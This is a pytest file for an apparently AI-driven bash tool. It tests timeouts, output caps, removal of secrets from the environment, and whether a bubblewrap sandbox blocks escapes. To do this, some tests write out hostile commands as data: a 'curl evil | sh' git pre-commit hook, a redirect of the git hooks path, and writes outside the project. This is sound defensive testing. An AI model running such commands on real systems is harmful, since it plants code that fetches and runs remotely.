"""Bash: timeouts, output caps, the environment, and the real bubblewrap sandbox refusing."""
import os
import socket
import sys
import tempfile
import time
from pathlib import Path

import pytest

from mino_core import InvalidArguments, Status
from mino_tools_fs import bash, sandbox
from mino_tools_fs.bash import run_command

TOOL = bash.tool(sandbox.detect())


def run(ctx, **args):
    TOOL.validate(args, ctx)
    return TOOL.run(args, ctx)


def box():
    return sandbox.detect()


# -- without the sandbox: the mechanics ---------------------------------------------------

def test_runs_in_the_project_folder_and_reports_exit_codes(project, ctx):
    ctx.config["tools-fs"] = {"sandbox": False}
    result = run(ctx, command="pwd; echo err >&2")
    assert result.status is Status.COMPLETED
    assert result.output == f"{project}\nerr\n[Exit code: 0]"
    failed = run(ctx, command="exit 3")
    assert failed.status is Status.FAILED and failed.output.endswith("[Exit code: 3]")


def test_timeout_is_reported_and_kills_the_whole_process_group(project):
    started = time.monotonic()
    outcome = run_command("sleep 30 & echo $!; wait", project, 0.5, 1000, None)
    assert outcome.timed_out and time.monotonic() - started < 5
    child = int(outcome.output.split()[0])
    time.sleep(0.1)
    try:
        state = Path(f"/proc/{child}/stat").read_text().split()[2]
    except FileNotFoundError:
        state = "gone"
    assert state in ("gone", "Z")  # killed (a zombie awaits its reaper)
    result = bash.report(outcome, 0.5, 1000)
    assert result.status is Status.FAILED and "[Timed out after 0.5 s;" in result.output


def test_timeout_from_config_and_from_the_call(project, ctx):
    ctx.config["tools-fs"] = {"sandbox": False, "bash_timeout": 1}
    assert "Timed out after 1 s" in run(ctx, command="sleep 5").output
    assert "Timed out after 0.3 s" in run(ctx, command="sleep 5", timeout=0.3).output
    with pytest.raises(InvalidArguments, match="timeout"):
        TOOL.validate({"command": "true", "timeout": 10_000}, ctx)
    with pytest.raises(InvalidArguments, match="empty"):
        TOOL.validate({"command": "  "}, ctx)


def test_output_cap_keeps_head_and_tail_and_says_so(project, ctx):
    ctx.config["tools-fs"] = {"sandbox": False, "bash_output_cap": 100}
    result = run(ctx, command="echo START; seq 1 20000; echo END")
    assert result.output.startswith("START\n") and "END\n[Output truncated:" in result.output
    assert "over the cap of 100" in result.output and "bytes of output left out" in result.output
    assert len(result.output) < 600


def test_secrets_are_scrubbed_from_the_environment(project, monkeypatch):
    for name in ("OPENAI_API_KEY", "GITHUB_TOKEN", "DB_PASSWORD", "MY_SECRET", "AWS_REGION"):
        monkeypatch.setenv(name, "sk-live-123")
    monkeypatch.setenv("HARMLESS", "fine")
    monkeypatch.setenv("LANG", "C.UTF-8")
    outcome = run_command("env", project, 10, 100_000, None)
    assert "sk-live-123" not in outcome.output and "LANG=C.UTF-8" in outcome.output
    assert "HARMLESS" not in outcome.output  # not on the allow-list: dropped
    outcome = run_command("env", project, 10, 100_000, None, env_extra=["HARMLESS"])
    assert "HARMLESS=fine" in outcome.output  # the person added it


def test_no_sandbox_means_not_sandboxed_and_the_description_says_so(ctx):
    ctx.config["tools-fs"] = {"sandbox": False}
    assert TOOL.sandboxed({"command": "true"}, ctx) is False
    assert "No sandbox found" in bash.tool(None).schema()["description"]


# -- inside bubblewrap: the sandbox really refuses --------------------------------------------

def test_sandboxed_flag_and_description(bwrap, ctx):
    assert TOOL.sandboxed({"command": "true"}, ctx) is True
    assert "Sandboxed with bubblewrap" in TOOL.schema()["description"]


def test_sandbox_writes_inside_the_project_work(bwrap, project, ctx):
    result = run(ctx, command="echo made > inside.txt && mkdir -p d && echo x > d/y && cat inside.txt")
    assert result.status is Status.COMPLETED, result.output
    assert (project / "inside.txt").read_text() == "made\n" and (project / "d" / "y").exists()


def test_sandbox_refuses_writes_outside_the_project(bwrap, project, ctx):
    with tempfile.TemporaryDirectory(dir="/var/tmp") as elsewhere:  # outside /tmp, writable here
        os.chmod(elsewhere, 0o777)  # writable by anyone: only the read-only mount refuses it
        target = Path(elsewhere) / "escaped.txt"
        result = run(ctx, command=f"echo pwned > {target}")
        assert result.status is Status.FAILED and "Read-only file system" in result.output
        assert not target.exists()
    home = Path.home() / f".mino-sandbox-test-{os.getpid()}"
    run(ctx, command=f"touch {home}")  # the home inside is an empty private folder
    assert not home.exists()


def test_sandbox_keeps_the_git_dir_read_only(bwrap, project, ctx):
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\n")
    result = run(ctx, command="echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert result.status is Status.FAILED and not (project / ".git/hooks/pre-commit").exists()
    result = run(ctx, command="echo '[core] hooksPath = /tmp/x' >> .git/config")
    assert result.status is Status.FAILED
    assert (project / ".git" / "config").read_text() == "[core]\n"
    result = run(ctx, command="echo ref > .git/HEAD")  # the whole git dir, not just hooks
    assert result.status is Status.FAILED and not (project / ".git" / "HEAD").exists()


def test_sandbox_tmp_is_private(bwrap, project, ctx, outside):
    scratch = f"/tmp/mino-scratch-{os.getpid()}"
    result = run(ctx, command=f"ls {outside}; echo t > {scratch} && cat {scratch}")
    assert "No such file" in result.output  # the real /tmp (and the folder next door) is hidden
    assert result.output.endswith("t\n[Exit code: 0]")
    assert not Path(scratch).exists()


def test_sandbox_has_no_network(bwrap, project, ctx):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    probe = ("python3 -c \"import socket; socket.create_connection(('127.0.0.1', %d), timeout=2); "
             "print('connected')\"" % port)
    try:
        ctx.config["tools-fs"] = {"sandbox": False}
        assert "connected" in run(ctx, command=probe).output  # the control: reachable outside
        ctx.config["tools-fs"] = {}
        result = run(ctx, command=probe)
        assert result.status is Status.FAILED and "connected" not in result.output
        assert "refused" in result.output or "unreachable" in result.output
    finally:
        server.close()


def test_sandbox_timeout_kills_everything_inside(bwrap, project, ctx):
    ctx.config["tools-fs"] = {"bash_timeout": 1}
    started = time.monotonic()
    result = run(ctx, command="(sleep 1.5; touch late) & sleep 30", timeout=0.5)
    assert "Timed out" in result.output and time.monotonic() - started < 5
    time.sleep(1.5)
    assert not (project / "late").exists()


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is the Linux sandbox")
def test_detect_finds_no_sandbox_without_bwrap(monkeypatch):
    monkeypatch.setenv("PATH", "/nonexistent")
    sandbox.forget()
    try:
        assert sandbox.detect() is None
    finally:
        sandbox.forget()


def test_a_limit_note_only_for_a_command_that_failed(bwrap, project, ctx):
    # Printing a limit's words is not hitting the limit: no note on a success.
    (project / "app.log").write_text("worker 3: out of memory\nNo space left on device\n")
    result = run(ctx, command="grep -h 'out of memory' app.log; grep -h 'No space' app.log")
    assert result.status is Status.COMPLETED, result.output
    assert "out of memory" in result.output and "data memory" not in result.output
    assert "sandbox folder is full" not in result.output
    failed = run(ctx, command="cat app.log; exit 1")
    assert "sandbox folder is full" in failed.output  # the same words from a failure: a note
